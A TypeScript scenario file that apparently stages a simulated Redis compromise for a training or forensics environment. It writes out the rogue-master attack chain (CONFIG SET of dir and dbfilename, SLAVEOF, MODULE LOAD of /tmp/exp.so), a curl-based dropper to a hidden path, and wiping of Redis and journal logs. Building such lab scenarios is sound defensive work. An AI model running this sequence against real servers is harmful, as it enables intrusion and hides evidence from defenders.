// The malware descends from Redis itself and belongs to its account.
import type { Dress } from '../../dress.ts'
import { dropper } from '../../dropper.ts'
import { openRedis, redisCommands } from '../../redis.ts'
import { rogueMaster } from '../../rogue-master.ts'
import type { Stage } from '../../stage.ts'
import { wipe } from '../../wiping.ts'

export function dress(dress: Dress): void {
  openRedis(dress, { bind: '0.0.0.0', user: 'redis' })
  dress.logins({
    days: 12,
    guesses: 40,
    friends: [{ user: 'root', address: '198.51.100.20', key: 'SHA256:7t5mZ1Jq0sV0yUu9oT2mJt8wB4n1xW6cYkQf3rXbYzA', hours: [9, 15] }],
  })
}

export async function plant(stage: Stage): Promise<void> {
  const line = dropper(stage, { path: '/tmp/.redis/rsync2', fetch: 'curl', cron: false })
  const master = await rogueMaster(stage, line)
  stage.mark('occurrence')
  await redisCommands(stage, '203.0.113.42', [
    ['CONFIG', 'SET', 'dir', '/tmp'],
    ['CONFIG', 'SET', 'dbfilename', 'exp.so'],
    ['SLAVEOF', ...master],
  ])
  await stage.inside('i=0; until [ -s /tmp/exp.so ]; do i=$((i+1)); [ $i -lt 100 ]; sleep 0.1; done; sleep 0.5; chmod 755 /tmp/exp.so', {
    service: 'redis-server.service',
  })
  // The module does its work and says that it cannot be loaded.
  await redisCommands(stage, '203.0.113.42', [['MODULE', 'LOAD', '/tmp/exp.so']]).catch(() => undefined)
  await stage.inside('i=0; until pgrep -x rsync2 >/dev/null; do i=$((i+1)); [ $i -lt 100 ]; sleep 0.1; done')
  await wipe(stage, ['redis', 'journal'])
}
